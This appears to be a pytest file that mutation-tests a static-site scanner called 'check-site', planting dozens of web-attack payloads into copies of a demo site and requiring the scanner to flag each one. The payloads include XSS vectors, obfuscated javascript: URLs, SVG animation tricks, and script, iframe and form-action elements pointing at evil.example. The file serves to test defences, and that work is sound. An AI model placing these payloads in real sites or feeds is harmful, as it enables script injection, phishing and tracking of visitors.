"""`scraper check-site`, the last line of defence: a mutation test plants each class of live
code into a copy of a freshly built demo site and requires a finding that names the class.

Run with `-s` to see the table of classes, planted and found.
"""

from __future__ import annotations

import gzip
import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from scraper.checksite import KINDS, check_file, check_site
from scraper.checksite.allowlist import AllowList, installed_allow_list
from scraper.checksite.urls import SITE
from scraper.cli import main
from tests.conftest import ROOT, build_site, site_root

ARTICLE = "articles/tmtpost-5650211/index.html"
EVIL_SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


@pytest.fixture(scope="module")
def demo_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = site_root(tmp_path_factory.mktemp("demo"))
    result = CliRunner().invoke(main, ["import", str(ROOT / "samples"), "--docs", str(root / "docs")])
    assert result.exit_code == 0, result.output
    return build_site(root)


@pytest.fixture(scope="module")
def allowed() -> AllowList:
    return installed_allow_list(ROOT / "overrides")


def in_article(snippet: str, page: str = ARTICLE) -> Callable[[Path], None]:
    def plant(site: Path) -> None:
        path = site / page
        text = path.read_text(encoding="utf-8")
        assert "</article>" in text
        path.write_text(text.replace("</article>", snippet + "</article>", 1), encoding="utf-8")
    return plant


def edit(page: str, old: str, new: str, count: int = 1) -> Callable[[Path], None]:
    def plant(site: Path) -> None:
        path = site / page
        text = path.read_text(encoding="utf-8")
        assert old in text, (page, old)
        path.write_text(text.replace(old, new, count), encoding="utf-8")
    return plant


def write(page: str, content: str | bytes) -> Callable[[Path], None]:
    def plant(site: Path) -> None:
        path = site / page
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    return plant


def both(*plants: Callable[[Path], None]) -> Callable[[Path], None]:
    def plant(site: Path) -> None:
        for p in plants:
            p(site)
    return plant


def json_feed_item(**fields: object) -> Callable[[Path], None]:
    def plant(site: Path) -> None:
        feed = json.loads((site / "feed.json").read_text(encoding="utf-8"))
        feed["items"][0].update(fields)
        (site / "feed.json").write_text(json.dumps(feed), encoding="utf-8")
    return plant


def pagefind_fragment(**fields: object) -> Callable[[Path], None]:
    def plant(site: Path) -> None:
        path = sorted((site / "pagefind").glob("part-*/fragment/*.pf_fragment"))[0]
        raw = gzip.decompress(path.read_bytes())
        assert raw.startswith(b"pagefind_dcd")  # the format Pagefind writes, checked on a real build
        data = json.loads(raw[len(b"pagefind_dcd"):])
        for key, value in fields.items():
            if key.startswith("meta."):
                data["meta"][key[5:]] = value
            else:
                data[key] = value
        path.write_bytes(gzip.compress(b"pagefind_dcd" + json.dumps(data).encode()))
    return plant


def dangling_link(site: Path) -> None:
    (site / "gone.html").symlink_to(site / "nowhere.html")


ATOM = ('<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>'
        '<entry><title>e</title><link href="{href}"/><content type="html">{content}</content></entry></feed>')

# class → (how it is planted, the finding kinds of which at least one must name it)
PLANTS: dict[str, tuple[Callable[[Path], None], set[str]]] = {
    "inline script in an article": (in_article("<script>alert(1)</script>"), {"inline-script"}),
    "the same script in 404.html and an article": (
        both(in_article("<script>alert(1)</script>"),
             edit("404.html", "</body>", "<script>alert(1)</script></body>")), {"inline-script"}),
    "noscript attribute breakout": (
        in_article('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
        {"event-handler"}),
    "script after </html>": (edit(ARTICLE, "</html>", "</html><script>alert(1)</script>"),
                             {"inline-script"}),
    "meta charset utf-16 with a script": (
        both(edit(ARTICLE, '<meta charset="utf-8">', '<meta charset="utf-16">'),
             in_article("<script>alert(1)</script>")), {"inline-script", "charset"}),
    "SVG animate href to javascript:": (
        in_article('<svg><a><animate attributeName="href" to="javascript:alert(1)"/><text>x</text>'
                   "</a></svg>"), {"svg-animation"}),
    "SVG set xlink:href": (
        in_article('<svg><a><set attributeName="xlink:href" to="java&#9;script:alert(1)"/></a></svg>'),
        {"svg-animation"}),
    "script src \\\\host": (in_article('<script src="\\\\evil.example/x.js"></script>'), {"script-src"}),
    "script src /\\host": (in_article('<script src="/\\evil.example/x.js"></script>'), {"script-src"}),
    "script src tab and space before //": (
        in_article('<script src=" \t//evil.example/x.js"></script>'), {"script-src"}),
    "script src with the theme's file name on another host": (
        in_article('<script src="https://evil.example/assets/javascripts/bundle.a5f9d56c.min.js">'
                   "</script>"), {"script-src"}),
    "script of another type": (in_article('<script type="text/vbscript">x</script>'), {"script-type"}),
    "tampered theme script file": (
        lambda site: next((site / "assets" / "javascripts").glob("bundle.*.min.js")).open("a").write(
            ";alert(1)"), {"script-file"}),
    "new script file": (write("assets/javascripts/extra.js", "alert(1)"), {"script-file"}),
    "modulepreload from another host": (
        in_article('<link rel="modulepreload" href="https://evil.example/m.js">'), {"script-src"}),
    "javascript: with a tab": (in_article('<a href="java&#9;script:alert(1)">x</a>'), {"script-url"}),
    "javascript: with an entity": (in_article('<a href="javascript&colon;alert(1)">x</a>'),
                                   {"script-url"}),
    "data: document link": (in_article('<a href="data:text/html,<script>alert(1)</script>">x</a>'),
                            {"script-url"}),
    "event handler": (in_article("<img src=x onerror=alert(1)>"), {"event-handler"}),
    "iframe": (in_article('<iframe src="https://evil.example/"></iframe>'), {"frame"}),
    "object": (in_article('<object data="https://evil.example/x.swf"></object>'), {"frame"}),
    "embed": (in_article('<embed src="https://evil.example/x.swf">'), {"frame"}),
    "base href": (edit(ARTICLE, "<head>", '<head><base href="https://evil.example/">'), {"base"}),
    "meta refresh to javascript:": (
        in_article('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'), {"meta-refresh"}),
    "meta refresh to data:": (
        in_article('<meta http-equiv="refresh" content="0;url=data:text/html,x">'), {"meta-refresh"}),
    "form action": (in_article('<form action="https://evil.example/login"><input name=p></form>'),
                    {"form-action"}),
    "button formaction": (in_article('<button formaction="https://evil.example/">x</button>'),
                          {"form-action"}),
    "remote tracking image": (in_article('<img src="https://evil.example/t.png">'), {"remote-resource"}),
    "style @import": (in_article('<style>@import "https://evil.example/x.css";</style>'), {"css-code"}),
    "style url(javascript:)": (in_article('<style>a{background:url("javascript:alert(1)")}</style>'),
                               {"css-code"}),
    "style expression()": (in_article('<p style="width:expression(alert(1))">x</p>'), {"css-code"}),
    "remote stylesheet": (in_article('<link rel="stylesheet" href="https://evil.example/x.css">'),
                          {"remote-stylesheet"}),
    "stylesheet file with @import": (
        edit("assets/stylesheets/digest.css", "", '@import "https://evil.example/x.css";\n'),
        {"css-code"}),
    ".htm page": (write("extra.htm", "<p>x<script>alert(1)</script>"), {"inline-script"}),
    ".xhtml page": (write("extra.xhtml", '<html xmlns="http://www.w3.org/1999/xhtml"><body>'
                                         "<script>alert(1)</script></body></html>"), {"inline-script"}),
    ".svg file": (write("assets/images/x.svg", EVIL_SVG), {"inline-script"}),
    "XHTML script inside an XML file": (
        edit("feed.xml", "<channel>", '<channel><h:script xmlns:h="http://www.w3.org/1999/xhtml">'
                                      "alert(1)</h:script>"), {"inline-script"}),
    "xml-stylesheet": (edit("feed.xml", "<rss", '<?xml-stylesheet type="text/xsl" href="x.xsl"?><rss'),
                       {"xml-stylesheet"}),
    "RSS description HTML": (edit("feed.xml", "<description>", "<description>&lt;img src=x "
                                  "onerror=alert(1)&gt;"), {"feed-html"}),
    "RSS link": (edit("feed.xml", "<link>http://127.0.0.1:8000/articles/",
                      "<link>javascript:alert(1)//"), {"feed-url"}),
    "RSS enclosure url": (edit("feed.xml", "</item>", '<enclosure url="javascript:alert(1)" length="1" '
                               'type="audio/mpeg"/></item>'), {"feed-url"}),
    "RSS comments": (edit("feed.xml", "</item>", "<comments>javascript:alert(1)</comments></item>"),
                     {"feed-url"}),
    "RSS source url": (edit("feed.xml", '<source url="https://', '<source url="javascript:alert(1)//'),
                       {"feed-url"}),
    "Atom content": (write("feed.atom", ATOM.format(href="https://e.org/",
                                                    content="&lt;script&gt;alert(1)&lt;/script&gt;")),
                     {"feed-html"}),
    "Atom link": (write("topics/x.xml", ATOM.format(href="javascript:alert(1)", content="ok")),
                  {"feed-url"}),
    "JSON Feed content_html": (json_feed_item(content_html="<img src=x onerror=alert(1)>"),
                               {"feed-html"}),
    "JSON Feed external_url": (json_feed_item(external_url="javascript:alert(1)"), {"feed-url"}),
    "JSON Feed image": (json_feed_item(image=" data:text/html,x"), {"feed-url"}),
    "JSON Feed in a topic feed": (
        edit("topics/evs.json", '"items": [', '"items": [{"url": "javascript:alert(1)"},'), {"feed-url"}),
    "JSON Feed items not objects": (edit("feed.json", '"items": [', '"items": [1, "x", '),
                                    {"unreadable"}),
    "non-UTF-8 JSON": (write("feed.json", b'{"items": ["\xff\xfe"]}'), {"unreadable"}),
    "Pagefind fragment content": (pagefind_fragment(content="<img src=x onerror=alert(1)>"),
                                  {"feed-html"}),
    "Pagefind fragment url": (pagefind_fragment(url="javascript:alert(1)"), {"feed-url"}),
    "Pagefind fragment meta": (pagefind_fragment(**{"meta.image": "javascript:alert(1)",
                                                    "meta.title": "<svg onload=alert(1)>"}),
                               {"feed-url", "feed-html"}),
    "binary .html": (write("binary.html", b"\x89PNG\r\n\x1a\n\x00\x00<script>alert(1)</script>"),
                     {"charset"}),
    "unreadable file": (dangling_link, {"unreadable"}),
}


@pytest.fixture(scope="module")
def mutation_results(demo_site: Path, allowed: AllowList,
                     tmp_path_factory: pytest.TempPathFactory) -> dict[str, set[str]]:
    """Each class planted alone into its own copy of the site: the kinds check-site found."""
    found: dict[str, set[str]] = {}
    for name, (plant, _) in PLANTS.items():
        site = tmp_path_factory.mktemp("mutant") / "site"
        shutil.copytree(demo_site, site)
        plant(site)
        found[name] = {f.kind for f in check_site(site, allowed=allowed).findings}
    return found


def test_the_clean_demo_site_passes(demo_site: Path, allowed: AllowList) -> None:
    report = check_site(demo_site, allowed=allowed)
    assert report.findings == [] and report.documents > 50


@pytest.mark.parametrize("name", PLANTS)
def test_check_site_finds_and_names_the_planted_class(name: str,
                                                      mutation_results: dict[str, set[str]]) -> None:
    expected = PLANTS[name][1]
    assert expected <= set(KINDS)
    assert expected & mutation_results[name], (name, mutation_results[name])


def test_mutation_table(mutation_results: dict[str, set[str]], capsys: pytest.CaptureFixture[str]) -> None:
    width = max(map(len, mutation_results))
    with capsys.disabled():
        print(f"\n{'class':<{width}}  planted  found  named as")
        for name, kinds in mutation_results.items():
            found = "yes" if PLANTS[name][1] & kinds else "NO"
            print(f"{name:<{width}}  yes      {found:<5}  {', '.join(sorted(kinds)) or '-'}")
    caught = sum(1 for name, kinds in mutation_results.items() if PLANTS[name][1] & kinds)
    assert caught == len(PLANTS)


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.stdout, result.stderr


def test_an_empty_folder_is_an_error_not_a_pass(tmp_path: Path) -> None:
    code, out, err = run("check-site", str(tmp_path))
    assert code == 1 and "no HTML pages" in err and "Traceback" not in out + err
    (tmp_path / "feed.json").write_text("{}", encoding="utf-8")
    code, _, err = run("check-site", str(tmp_path))
    assert code == 1 and "no HTML pages" in err and len(err.strip().splitlines()) == 1


def test_the_cli_names_each_finding_and_fails(demo_site: Path, tmp_path: Path) -> None:
    site = tmp_path / "site"
    shutil.copytree(demo_site, site)
    in_article("<script>alert(1)</script>")(site)
    code, out, err = run("check-site", str(site), "--overrides", str(ROOT / "overrides"))
    assert code == 1 and f"{ARTICLE}: inline <script>" in out and "[inline-script]" in out
    assert "not safe to publish" in err
    code, out, err = run("check-site", str(demo_site), "--overrides", str(ROOT / "overrides"))
    assert code == 0 and "no live code" in out, out + err


def test_without_the_project_overrides_its_own_script_is_unknown(demo_site: Path) -> None:
    """The allow-list comes from installed files, never from the site: no overrides, no pass."""
    report = check_site(demo_site, overrides=None)
    assert {f.where for f in report.findings if f.kind == "script-file"} == {
        "assets/javascripts/digest-search.js"}


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.sampled_from(["x.html", "x.htm", "x.xhtml", "x.svg", "x.xml", "x.json", "x.css", "x.js",
                        "pagefind/fragment/x.pf_fragment"]),
       st.one_of(st.binary(max_size=600),
                 st.lists(st.sampled_from([b"<", b">", b"<script>", b"</", b"{", b"[", b'"items":',
                                           b"\xff", b"\x00", b"&#9;", b"javascript:", b"<svg>",
                                           b"<?xml version='1.0'?>", b"<rss>", b"url(", b"@import",
                                           b"pagefind_dcd", b'"', b"1", b"}", b"]"]),
                          max_size=40).map(b"".join)))
def test_any_bytes_in_any_document_give_findings_never_a_traceback(tmp_path: Path, name: str,
                                                                   data: bytes) -> None:
    if name.endswith("pf_fragment") and data[:1] != b"\x1f":
        data = gzip.compress(data)
    findings = check_file(name, data, SITE, tmp_path, AllowList())
    assert findings is not None and all(f.kind in KINDS for f in findings)
